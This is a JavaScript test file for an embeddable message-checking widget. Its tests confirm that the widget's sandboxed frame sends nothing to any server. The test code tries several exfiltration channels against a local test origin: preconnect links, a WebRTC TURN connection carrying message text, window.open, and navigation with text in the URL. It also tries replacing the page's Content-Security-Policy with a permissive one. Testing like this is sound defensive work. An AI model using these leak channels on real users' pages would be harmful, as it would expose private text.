// The seal of the frame that other sites embed, under the same attacks as the home
// page's (seal.test.mjs), inside a page of another site. The host's server must stay as
// silent as the site's.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { attackFromPage } from './attacks-page.mjs';
import { attackFromRoom } from './attacks-room.mjs';
import { makeAttackPolicy } from './control.mjs';
import { startProfile } from './browsers.mjs';
import { hostPage, openHost, openWidget, widget } from './host.mjs';
import { openPost } from './listening-post.mjs';
import { check, messages } from './reader.mjs';
import { startSite } from './site.mjs';
import { attackFrom, nothingArrived as nothingArrivedAt, requestsOf } from './under-attack.mjs';

const lure = messages.lures.find(({ technique, lang }) => technique === 2 && lang === 'en').text;
let site, other, host, profile, page, frame, sealedAt, hostAt;

before(async () => {
  [site, other] = await Promise.all([startSite(), openPost()]);
  host = await openHost(site, { '/': hostPage(site, widget(site)) });
  profile = await startProfile();
  await profile.context.addInitScript(makeAttackPolicy);
  page = await profile.context.newPage();
  await page.goto(`${host.origin}/`);
  frame = await openWidget(page);
  sealedAt = site.requests().length;
  hostAt = requestsOf(host).length;
  assert.equal(await check(frame, lure), 'danger');
});

after(async () => {
  await profile?.stop();
  await Promise.all([site?.stop(), other?.stop(), host?.stop()]);
});

async function nothingArrived() {
  await nothingArrivedAt(site, sealedAt, other);
  assert.deepEqual(requestsOf(host).slice(hostAt), [], 'the host\'s server');
  assert.equal(page.url(), `${host.origin}/`);
}
const about = () => ({ text: lure, origins: [site.origin, other.origin], nothingArrived });

test('the frame reaches no server through any channel', () => attackFrom(frame, attackFromPage, about()));

test('no checking room of the frame reaches a server through any channel', async () => {
  assert.equal(page.workers().length, 2);
  for (const room of page.workers()) {
    assert.match(room.url(), /\/a\/checking-/);
    await attackFrom(room, attackFromRoom, about());
  }
});

test('the seal of the frame stays when its element is taken out', async () => {
  await frame.evaluate(() => {
    for (const meta of document.querySelectorAll('meta[http-equiv]')) meta.remove();
    const loose = document.createElement('meta');
    loose.httpEquiv = 'Content-Security-Policy';
    loose.content = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'; connect-src *";
    document.head.append(loose);
  });
  await attackFrom(frame, attackFromPage, about());
});

test('after all attacks the frame still checks, and its host stands', async () => {
  assert.equal(await check(frame, 'See you at seven, bring the cake'), 'no-sign');
  assert.equal(await check(frame, lure), 'danger');
  await nothingArrived();
});

test('what a policy does not cover is closed in the frame, too: connections ahead of need, WebRTC, leaving', async () => {
  const begun = other.entries.length;
  for (const escape of [
    ({ origin }) => void document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: origin })),
    async ({ origin, text }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `turn:${new URL(origin).host}`, username: text.slice(0, 100), credential: 'x' }] });
      connection.createDataChannel('attack');
      await connection.setLocalDescription(await connection.createOffer());
    },
    ({ origin, text }) => void open(`${origin}/?text=${encodeURIComponent(text)}`),
    ({ origin, text }) => void (location.href = `${origin}/?text=${encodeURIComponent(text)}`),
  ]) {
    await frame.evaluate(escape, { origin: other.origin, text: lure }).catch(() => {});
    await page.waitForTimeout(700);
  }
  assert.deepEqual(other.entries.slice(begun), []);
  assert.deepEqual(requestsOf(host).slice(hostAt), []);
});
